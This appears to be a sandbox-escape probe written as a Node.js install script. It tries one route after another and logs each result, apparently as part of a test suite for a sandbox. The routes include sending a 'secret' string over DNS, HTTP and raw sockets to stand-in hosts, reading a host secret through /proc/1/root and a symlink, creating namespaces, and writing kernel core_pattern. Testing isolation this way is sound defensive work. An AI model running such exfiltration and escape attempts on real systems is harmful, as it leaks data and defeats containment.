// An install script that tries every way out, and prints what came of each. Its argument: where the others are.
import { spawnSync } from 'node:child_process'
import dgram from 'node:dgram'
import { Resolver, lookup } from 'node:dns/promises'
import { readdirSync, readFileSync, symlinkSync, writeFileSync, writeSync } from 'node:fs'
import net from 'node:net'

const targets = JSON.parse(process.argv[2])

/** Connects, says something, and tells how it ended. */
const say = (options, text = `secret of ${process.pid}`) =>
  new Promise((resolve) => {
    let heard = ''
    const socket = net.connect(options)
    socket.on('connect', () => socket.write(text))
    socket.on('data', (bytes) => (heard += bytes))
    socket.on('error', (error) => resolve(error.code))
    socket.on('close', () => resolve(heard === '' ? 'closed' : `heard ${JSON.stringify(heard)}`))
    socket.setTimeout(5000, () => socket.destroy())
  })

/**
 * Sends a datagram, and waits until the kernel says that there is nobody, if it does. The socket stays: on a busy machine
 * it takes a while until somebody looks whose it is.
 */
const send = (kind, port, host) =>
  new Promise((resolve) => {
    const socket = dgram.createSocket(kind)
    const end = (how) => {
      resolve(how)
      socket.unref()
    }
    const timer = setTimeout(() => end('sent'), 300)
    socket.on('error', (error) => (clearTimeout(timer), end(error.code)))
    socket.connect(port, host, (error) => {
      if (error) return
      socket.send('a datagram', (failed) => failed && socket.emit('error', failed))
    })
  })

const attempt = async (name, what) => {
  let outcome
  try {
    outcome = await what()
  } catch (error) {
    outcome = error.cause?.code ?? error.code ?? error.message
  }
  console.log(JSON.stringify([name, outcome]))
}

await attempt('a name', async () => (await lookup('secret.exfiltration.example')).address)
await attempt('a server of names', async () => {
  const resolver = new Resolver({ timeout: 2000, tries: 1 })
  resolver.setServers(['203.0.113.53'])
  return (await resolver.resolve4('direct.example')).length
})
await attempt('a server of names over TCP', async () => {
  // One question, of type A, for the name of two labels.
  const labels = ['stream', 'example'].flatMap((label) => [label.length, ...Buffer.from(label)])
  const message = [0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]
  const heard = await say({ host: '2001:db8::53', port: 53 }, Buffer.from([0, message.length, ...message]))
  return heard.startsWith('heard') ? 'heard' : heard
})
await attempt('https', () => fetch('https://secure.example/path'))
await attempt('http', async () => (await fetch('http://plain.example/path?token=1')).status)
await attempt('an address', () => say({ host: '203.0.113.9', port: 4444 }, 'raw \u001b bytes'))
await attempt('an address of IPv6', () => say({ host: '2001:db8::5', port: 8443 }))
await attempt('a datagram', () => send('udp4', 123, '198.51.100.3'))
await attempt('a datagram of IPv6', () => send('udp6', 124, '2001:db8::7'))
await attempt('the loopback', () => say({ host: '127.0.0.1', port: targets.port }))
await attempt('the loopback of IPv6', () => say({ host: '::1', port: targets.port6 }))
await attempt('a datagram to the loopback', () => send('udp4', targets.udp, '127.0.0.1'))
if (targets.address) await attempt('an address of the host', () => say({ host: targets.address, port: targets.port }))
await attempt('a unix socket', () => say({ path: targets.path }))
await attempt('an abstract socket', () => say({ path: `\0${targets.abstract}` }))
await attempt('a file of the host', () => readFileSync(targets.secret, 'utf8'))
await attempt('a file through /proc/1/root', () => readFileSync(`/proc/1/root${targets.secret}`, 'utf8'))
await attempt('a file through a link', () => {
  symlinkSync(targets.secret, 'link-out')
  return readFileSync('link-out', 'utf8')
})
await attempt('an inherited descriptor', () => writeSync(200, 'leaked\n'))
await attempt('a nested user namespace', () => spawnSync('unshare', ['--user', '--map-root-user', 'true']).status)
await attempt('a nested network namespace', () => spawnSync('unshare', ['--net', 'true']).status)
await attempt('the processes outside', () => {
  const seen = readdirSync('/proc').filter((name) => /^\d+$/.test(name))
  const strange = seen.filter((pid) => {
    const line = readFileSync(`/proc/${pid}/cmdline`, 'latin1')
    return line.includes('cell-process') || line.includes('sandbox-process')
  })
  return strange.length
})
// Not where nothing holds them back: they would be there afterwards.
for (const path of targets.write) await attempt(`writing ${path}`, () => writeFileSync(path, 'x'))
await attempt('writing a setting of the kernel', () => {
  const setting = '/proc/sys/kernel/core_pattern'
  writeFileSync(setting, readFileSync(setting))
})
await attempt('writing here', () => writeFileSync('output', 'built'))
